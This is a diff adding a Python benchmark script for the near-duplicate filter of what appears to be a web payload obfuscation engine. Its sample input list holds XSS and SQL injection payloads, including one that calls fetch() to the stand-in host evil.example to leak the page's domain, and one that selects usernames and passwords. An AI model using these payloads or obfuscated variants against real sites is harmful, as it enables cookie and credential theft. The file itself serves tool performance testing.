@@ -0,0 +1,61 @@
+#!/usr/bin/env python3
+"""Benchmark: overhead of the near-duplicate (MinHash) variant filter.
+
+Runs the engine over the same payloads with the filter off and at a few
+similarity thresholds, and reports time, skipped candidates, and the
+records and bytes actually produced.
+
+Usage: python3 benchmarks/bench_near_dup.py [payload_count] [multiplier]
+"""
+
+import os
+import sys
+import time
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+import techniques  # noqa: F401  (triggers registration)
+from core.engine import ObfuscationEngine
+from core.similarity import Signature
+
+PAYLOADS = [
+    "<script>alert(document.cookie)</script>",
+    "' OR 1=1 UNION SELECT username, password FROM users --",
+    "<img src=x onerror=fetch('//evil.example/'+document.domain)>",
+    "javascript:alert(String.fromCharCode(88,83,83))",
+]
+
+
+def main() -> None:
+    count = int(sys.argv[1]) if len(sys.argv) > 1 else 5000
+    multiplier = int(sys.argv[2]) if len(sys.argv) > 2 else 20
+    payloads = [f"{PAYLOADS[i % len(PAYLOADS)]}<!--{i}-->" for i in range(count)]
+    print(f"{count} payloads, -m {multiplier}\n")
+    print(f"{'threshold':<11}{'time (s)':>10}{'overhead':>10}{'skipped':>10}{'records':>10}{'MB out':>9}")
+    baseline = None
+    for threshold in (0.0, 0.95, 0.85, 0.7):
+        engine = ObfuscationEngine(multiplier=multiplier, seed=0, near_dup_threshold=threshold)
+        start = time.perf_counter()
+        records = size = 0
+        for results in engine.iter_results(iter(payloads)):
+            records += len(results)
+            size += sum(len(v.encode("utf-8")) for v in results.variants)
+        elapsed = time.perf_counter() - start
+        baseline = baseline or elapsed
+        label = f"{threshold:.2f}" if threshold else "off"
+        print(
+            f"{label:<11}{elapsed:>10.2f}{elapsed / baseline - 1:>+10.0%}"
+            f"{engine.stats['near_dup_rejected']:>10}{records:>10}{size / 1e6:>9.1f}"
+        )
+
+    variant = payloads[0] * 4
+    n = 20000
+    start = time.perf_counter()
+    for _ in range(n):
+        Signature(variant)
+    per = (time.perf_counter() - start) / n
+    print(f"\nsignature of a {len(variant)}-byte variant: {per * 1e6:.1f} us")
+
+
+if __name__ == "__main__":
+    main()